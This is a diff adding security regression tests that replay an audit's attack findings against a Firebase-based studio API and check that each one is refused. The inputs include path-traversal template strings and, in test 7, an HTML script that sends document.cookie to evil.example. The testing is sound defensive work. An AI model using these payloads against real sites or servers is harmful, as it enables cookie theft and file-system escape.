@@ -3,6 +3,7 @@
 // emulator. Audit entries, feed events and thumbnails come from the emulated functions' own
 // triggers, fired by the stack; the test never calls a handler. A web page using the Firebase web
 // SDK, in headless Chromium, listens to the same stack as a browser front end does (web-page.ts).
+// The attacks of issue 20 are made again here, as an attacker makes them (attacks.ts).
 // Needs functions/lib built and /usr/bin/chromium (`npm test` does both first).
 import { existsSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -11,11 +12,15 @@ import { fileURLToPath } from 'node:url';
 import { deleteApp, initializeApp, type App } from 'firebase-admin/app';
 import { getAuth } from 'firebase-admin/auth';
 import { getFirestore, type DocumentData, type Firestore } from 'firebase-admin/firestore';
+import { collection, getDocsFromServer, query, where } from 'firebase/firestore';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it, onTestFailed, vi } from 'vitest';
 import { freePorts, PROJECT_ID, type Ports } from '../../../stack/emulators.mjs';
 import { startServedStack, type ServedStack } from '../../../stack/served.mjs';
-import { signIn, uniqueName } from '../support/context.js';
+import { expectEnvelope, signIn, uniqueName } from '../support/context.js';
+import { idNeutral } from '../support/id-neutral.js';
+import { serverSnapshots } from '../support/server-snapshots.js';
+import { callerAt, createAdminScript, csvForm, forgeTimestamp, mediaForm, newPerson, TASK_ID_PROBES, webClient, type Caller, type Person } from './attacks.js';
 import { openWebPage, type WebPage } from './web-page.js';
 
 const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
@@ -28,26 +33,20 @@ let ports: Ports;
 let admin: App;
 let db: Firestore;
 let bearer: string;
+/** The studio admin's uid (a global admin, and admin of every project it creates). */
+let adminUid: string;
 const EMULATOR_VARIABLES = ['FIRESTORE_EMULATOR_HOST', 'FIREBASE_AUTH_EMULATOR_HOST', 'FIREBASE_STORAGE_EMULATOR_HOST', 'STORAGE_EMULATOR_HOST'] as const;
 const savedEnv = Object.fromEntries(EMULATOR_VARIABLES.map((name) => [name, process.env[name]]));
 
-/** A call to the served API (through Hosting's /api rewrite) as the seeded studio admin. */
-async function api(method: string, path: string, body?: unknown): Promise<{ status: number; body: DocumentData; headers: Headers }> {
-  const headers: Record<string, string> = { authorization: bearer };
-  let payload: FormData | string | undefined;
-  if (body instanceof FormData) payload = body;
-  else if (body !== undefined) {
-    headers['content-type'] = 'application/json';
-    payload = JSON.stringify(body);
-  }
-  const res = await fetch(`http://127.0.0.1:${ports.hosting}/api/v1${path}`, { method, headers, body: payload });
-  const text = await res.text();
-  return { status: res.status, body: text && res.headers.get('content-type')?.includes('json') ? JSON.parse(text) : text, headers: res.headers };
-}
+const apiBase = () => `http://127.0.0.1:${ports.hosting}/api/v1`;
+/** A call to the served API (through Hosting's /api rewrite) as the studio admin. */
+const api = callerAt(apiBase, () => bearer);
+/** Calls as someone else. */
+const as = (who: Person): Caller => callerAt(apiBase, () => who.bearer);
 
-async function createProject(): Promise<string> {
+async function createProject(config: DocumentData = {}): Promise<string> {
   const id = uniqueName('E2E').toUpperCase().replace(/-/g, '_');
-  const res = await api('POST', '/projects', { id, name: `End to end ${id}` });
+  const res = await api('POST', '/projects', { id, name: `End to end ${id}`, ...config });
   expect(res.status).toBe(201);
   return id;
 }
@@ -71,8 +70,8 @@ beforeAll(async () => {
   db = getFirestore(admin);
   // A studio admin in the served Auth emulator, signed in there for a real ID token.
   const email = `${uniqueName('admin')}@studio.test`;
-  const { uid } = await getAuth(admin).createUser({ email, password: 'e2e-password' });
-  await getAuth(admin).setCustomUserClaims(uid, { admin: true });
+  ({ uid: adminUid } = await getAuth(admin).createUser({ email, password: 'e2e-password' }));
+  await getAuth(admin).setCustomUserClaims(adminUid, { admin: true });
   bearer = `Bearer ${(await signIn(email, 'e2e-password')).idToken}`;
 }, 95_000);
 
@@ -170,11 +169,7 @@ describe('the served stack fires the triggers', () => {
     const projectId = await createProject();
     const taskId = await createTask(projectId, 'SH0020');
     const png = await sharp({ create: { width: 640, height: 360, channels: 3, background: { r: 200, g: 90, b: 30 } } }).png().toBuffer();
-    const form = new FormData();
-    form.set('task_id', taskId);
-    form.set('version', 'v001');
-    form.set('file', new Blob([png], { type: 'image/png' }), 'comp_v001.png');
-    const uploaded = await api('POST', '/media', form);
+    const uploaded = await api('POST', '/media', mediaForm(taskId, 'v001', 'comp_v001.png', png, 'image/png'));
     expect(uploaded.status).toBe(201);
     expect(uploaded.body.thumbnail_status).toBe('pending');
     const mediaId = uploaded.body.id as string;
@@ -238,6 +233,196 @@ describe('the served stack fires the triggers', () => {
     const bulkId = (await db.doc(`tasks/${a}`).get()).get('bulk_id');
     expect(received.filter((m) => m.data.part_of).map((m) => m.data.part_of)).toEqual([bulkId, bulkId]);
     expect(new Set(received.map((m) => m.data.user))).toEqual(new Set([patched.body.updated_by]));
+  });
+});
+
+describe('what the attacker found (issue 20), tried again on the served stack', () => {
+  // After the trigger tests: the Functions emulator starts each trigger's worker on first use, one
+  // after another, and those tests have paid for all but the annotations'.
+  // A project with a drive and a template, its admin (the lead) and two artists; Mallory writes in
+  // another project only. Each finding's task gets a shot of its own (task ids are one namespace).
+  let project: string;
+  let mallorys: string;
+  let lead: Person;
+  let artist: Person;
+  let artist2: Person;
+  let mallory: Person;
+  let png: Buffer;
+
+  async function addMembers(projectId: string, entries: [Person, string[]][]): Promise<void> {
+    const res = await api('POST', `/projects/${projectId}/users`, entries.map(([who, permissions]) => ({ user_id: who.uid, permissions })));
+    expect(res.body.errors).toEqual([]);
+  }
+  async function upload(by: Person, taskId: string, version: string): Promise<string> {
+    const res = await as(by)('POST', '/media', mediaForm(taskId, version, `comp_${version}.png`, png, 'image/png'));
+    expect(res.status).toBe(201);
+    return res.body.id as string;
+  }
+  const stored = async (path: string) => (await db.doc(path).get()).data();
+  /** The error's status and message, in one comparable value. */
+  const refusal = (res: { status: number; body: DocumentData }, code: string) => [res.status, expectEnvelope(res.body, code).message];
+
+  beforeAll(async () => {
+    const people = await Promise.all(['lead', 'artist', 'artist2', 'mallory'].map((label) => newPerson(getAuth(admin), label)));
+    [lead, artist, artist2, mallory] = people as [Person, Person, Person, Person];
+    [project, mallorys] = await Promise.all([createProject({ drive_mapping: { working_files: 'V:' }, templates: { shot_work: '{drive_working}/{project}/{episode}/{shot}/' } }), createProject()]);
+    await Promise.all([addMembers(project, [[lead, ['admin']], [artist, ['write']], [artist2, ['write']]]), addMembers(mallorys, [[mallory, ['write']]])]);
+    png = await sharp({ create: { width: 32, height: 18, channels: 3, background: { r: 90, g: 90, b: 90 } } }).png().toBuffer();
+  });
+
+  it("2: a writer cannot delete another's render with the review notes on it; the admin who does is the audit log's actor", async () => {
+    const mediaId = await upload(artist, await createTask(project, 'SH0210'), 'v001');
+    const note = async (by: Person, content: string) => {
+      const res = await as(by)('POST', '/annotations', { media_id: mediaId, annotation_type: 'note', content });
+      expect(res.status).toBe(201);
+      return res.body.id as string;
+    };
+    const review = await note(lead, 'the edge flickers at 1012');
+    const reply = await note(artist2, 'fixing it in v002');
+
+    expect((await as(artist2)('DELETE', `/annotations/${review}`)).status).toBe(403);
+    expect(refusal(await as(artist2)('DELETE', `/media/${mediaId}`), 'PERMISSION_DENIED')).toEqual([403, `Only the uploader or a project admin may delete media ${mediaId}`]);
+    expect(refusal(await as(artist)('DELETE', `/media/${mediaId}`), 'PERMISSION_DENIED')).toEqual([
+      403,
+      `Media ${mediaId} carries 2 annotations by other users; only a project admin may delete it with them`,
+    ]);
+    expect(await Promise.all([`media/${mediaId}`, `annotations/${review}`, `annotations/${reply}`].map(async (path) => (await stored(path)) !== undefined))).toEqual([true, true, true]);
+    expect((await stored(`media/${mediaId}`))!.deleting).toBeUndefined();
+
+    /** The actor of the document's audit entry for `action`, once the trigger wrote it. */
+    const actor = async (collection: string, id: string, action: string) => {
+      const entries = (await as(lead)('GET', `/audit?project_id=${project}&collection=${collection}&document_id=${id}`)).body.items as DocumentData[];
+      return entries.find((entry) => entry.action === action)?.actor;
+    };
+    await vi.waitFor(async () => expect([await actor('annotations', review, 'create'), await actor('annotations', reply, 'create')]).toEqual([lead.uid, artist2.uid]), soon);
+
+    expect((await as(lead)('DELETE', `/media/${mediaId}`)).status).toBe(204);
+    // The reply's last editor is artist2; the entries of the cascade name the lead, who deleted.
+    const deleter = (collection: string, id: string) => actor(collection, id, 'delete');
+    await vi.waitFor(async () => expect([await deleter('annotations', reply), await deleter('annotations', review), await deleter('media', mediaId)]).toEqual([lead.uid, lead.uid, lead.uid]), soon);
+  });
+
+  it('3: an artist cannot approve their own render, nor the project admin theirs, and the task stays pending review', async () => {
+    const taskId = await createTask(project, 'SH0220');
+    const render = await upload(artist, taskId, 'v001');
+    expect((await as(artist)('PATCH', `/tasks/${taskId}`, { status: 'pending_review' })).status).toBe(200);
+    const approve = (by: Person, id: string) => as(by)('POST', `/media/${id}/approve`, { approval_status: 'approved' });
+
+    expect(refusal(await approve(artist, render), 'PERMISSION_DENIED')).toEqual([403, `This needs 'review' permission on project ${project}`]);
+    const leads = await upload(lead, taskId, 'v002');
+    expect(refusal(await approve(lead, leads), 'PERMISSION_DENIED')).toEqual([403, `You uploaded media ${leads}; project ${project} does not allow reviewing one's own upload (allow_self_review)`]);
+    expect((await stored(`tasks/${taskId}`))!.status).toBe('pending_review');
+    expect([(await stored(`media/${render}`))!.approval_status, (await stored(`media/${leads}`))!.approval_status]).toEqual(['pending', 'pending']);
+
+    // The project's reviewer approving the artist's render is what moves the task.
+    expect((await approve(lead, render)).status).toBe(200);
+    expect((await stored(`tasks/${taskId}`))!.status).toBe('approved');
+  });
+
+  it("4: the project admin cannot point templates or drive roots outside the project, and its folder plan stays inside", async () => {
+    const config = async () => {
+      const { drive_mapping, path_segments, templates } = (await stored(`projects/${project}`))!;
+      return { drive_mapping, path_segments, templates };
+    };
+    const before = await config();
+    const escapes: [DocumentData, string][] = [
+      [{ templates: { shot_work: '{drive_working}/../../../../Windows/System32/{filename}' } }, 'templates.shot_work'],
+      [{ templates: { system: 'C:\\Windows\\System32\\{filename}' } }, 'templates.system'],
+      [{ drive_mapping: { working_files: 'C:\\..\\..\\Windows' } }, 'drive_mapping.working_files'],
+      [{ path_segments: { up: '../..' }, templates: { up: '{drive_working}/{up}/{filename}' } }, 'path_segments.up'],
+    ];
+    for (const [patch, field] of escapes) {
+      const res = await as(lead)('PATCH', `/projects/${project}`, patch);
+      expect([res.status, expectEnvelope(res.body, 'VALIDATION_ERROR').details]).toMatchObject([400, { field }]);
+    }
+    expect(await config()).toEqual(before);
+
+    const plan = await as(lead)('POST', `/projects/${project}/directory-structure`, { episodes: ['ep01'], shots: ['sh010'] });
+    expect(plan.status).toBe(201);
+    expect(plan.body.directories).toEqual([`V:/${project}`, `V:/${project}/ep01`, `V:/${project}/ep01/sh010`]);
+  });
+
+  it('5: two project admins demoting each other at once leave the project one admin', async () => {
+    const [a, b] = await Promise.all([newPerson(getAuth(admin), 'admin-a'), newPerson(getAuth(admin), 'admin-b')]);
+    const id = await createProject();
+    await addMembers(id, [[a, ['admin']], [b, ['admin']]]);
+    // The studio admin created the project and so is its admin too: it leaves the two alone.
+    expect((await api('DELETE', `/projects/${id}/users/${adminUid}`)).status).toBe(204);
+
+    const statuses = (await Promise.all([as(a)('PATCH', `/projects/${id}/users/${b.uid}`, { permissions: ['read'] }), as(b)('PATCH', `/projects/${id}/users/${a.uid}`, { permissions: ['read'] })])).map((r) => r.status);
+    expect(statuses.filter((s) => s === 200), JSON.stringify(statuses)).toHaveLength(1);
+    // The loser was demoted first (403), would demote the last admin (422), or lost on contention (409).
+    expect([403, 409, 422]).toContain(statuses.find((s) => s !== 200));
+    expect((await db.collection(`projects/${id}/members`).where('permissions', 'array-contains', 'admin').get()).size).toBe(1);
+  });
+
+  it('6: a page token with a forged timestamp is a 400 naming page_token, not a 500', async () => {
+    await createTask(project, 'SH0260');
+    await createTask(project, 'SH0261');
+    const list = (token?: string) => as(lead)('GET', `/tasks?project_id=${project}&page_size=1${token ? `&page_token=${token}` : ''}`);
+    const token = (await list()).body.next_page_token as string;
+    const forged = await list(forgeTimestamp(token));
+    expect([forged.status, expectEnvelope(forged.body, 'VALIDATION_ERROR').details]).toEqual([400, { field: 'page_token', issue: 'malformed' }]);
+    const next = await list(token);
+    expect([next.status, next.body.page]).toEqual([200, 2]);
+  });
+
+  it('7: an HTML page uploaded as media is served with nosniff, never as a page', async () => {
+    const taskId = await createTask(project, 'SH0270');
+    const page = '<html><script>fetch("https://evil.example/?" + document.cookie)</script></html>';
+    const html = new TextEncoder().encode(page);
+    const refused = await as(artist)('POST', '/media', mediaForm(taskId, 'v001', 'review.html', html, 'text/html'));
+    expect(refused.status).toBe(400);
+    expect(expectEnvelope(refused.body, 'VALIDATION_ERROR').message).toMatch(/^File type \.html is not allowed/);
+    // In a file the API takes, the page is served as what the name says, and the browser is told not to guess.
+    const uploaded = await as(artist)('POST', '/media', mediaForm(taskId, 'v001', 'review.mov', html, 'text/html'));
+    expect(uploaded.status).toBe(201);
+    const download = await as(artist2)('GET', `/media/${uploaded.body.id}/download`);
+    expect([download.status, download.headers.get('content-type'), download.headers.get('x-content-type-options'), download.body]).toEqual([200, 'video/quicktime', 'nosniff', page]);
+  });
+
+  it("8: a non-member learns of another project's task id only that it is taken, and changes nothing", async () => {
+    const created = await api('POST', '/tasks', { project_id: project, episode: 'Ep08', sequence: 'sq0010', shot: 'SH0280', task: 'comp', artist: 'secret-artist' });
+    const taken = created.body.id as string;
+    const free = taken.replace('sh0280', 'sh0281');
+    const before = await stored(`tasks/${taken}`);
+
+    for (const [route, probe] of TASK_ID_PROBES) expect(idNeutral(await probe(as(mallory), taken), taken), route).toBe(idNeutral(await probe(as(mallory), free), free));
+    const dryRun = (shot: string) => as(mallory)('POST', '/tasks/import-csv', csvForm({ project_id: mallorys, validate_only: 'true', existing: 'update' }, `Ep08,sq0010,${shot},comp,,,,,,,,`));
+    const [dryTaken, dryFree] = [await dryRun('SH0280'), await dryRun('SH0281')];
+    expect(dryTaken.body).toMatchObject({ invalid_tasks: 0, actions: { create: 1, update: 0, skip: 0 } });
+    expect(idNeutral(dryTaken, taken)).toBe(idNeutral(dryFree, free));
+
+    const squat = await as(mallory)('POST', '/tasks', { project_id: mallorys, episode: 'Ep08', sequence: 'sq0010', shot: 'SH0280', task: 'comp' });
+    expect(refusal(squat, 'CONFLICT')).toEqual([409, `Task ${taken} already exists`]);
+    expect(JSON.stringify(squat.body)).not.toMatch(new RegExp(`${project}|secret-artist`));
+    expect(await stored(`tasks/${taken}`)).toEqual(before);
+    expect(await stored(`tasks/${free}`)).toBeUndefined();
+  });
+
+  it('9: a demoted global admin loses direct Firestore listener access at once, though their token still claims admin', async () => {
+    const taskId = await createTask(project, 'SH0290');
+    const boss = await newPerson(getAuth(admin), 'boss');
+    await createAdminScript(ports, boss.email);
+    const web = await webClient(ports, boss);
+    try {
+      expect(await web.claims()).toMatchObject({ admin: true });
+      const tasks = query(collection(web.db, 'tasks'), where('project_id', '==', project));
+      const seen = serverSnapshots(tasks, (snap) => snap.docs.find((d) => d.id === taskId)?.get('status') ?? 'absent');
+      expect(await seen.next(1)).toEqual(['not_started']);
+
+      await createAdminScript(ports, boss.email, true);
+      expect(await web.claims()).toMatchObject({ admin: true });
+      expect((await api('PATCH', `/tasks/${taskId}`, { status: 'in_progress' })).status).toBe(200);
+      // The listener opened while they were admin delivers nothing after the demotion.
+      expect(await seen.next(2)).toEqual(['not_started', 'permission-denied']);
+      seen.stop();
+      await expect(getDocsFromServer(tasks)).rejects.toMatchObject({ code: 'permission-denied' });
+      // The API, which reads the user record, refuses the same token too.
+      expect((await as(boss)('GET', `/tasks/${taskId}`)).status).toBe(404);
+    } finally {
+      await web.close();
+    }
   });
 });
 
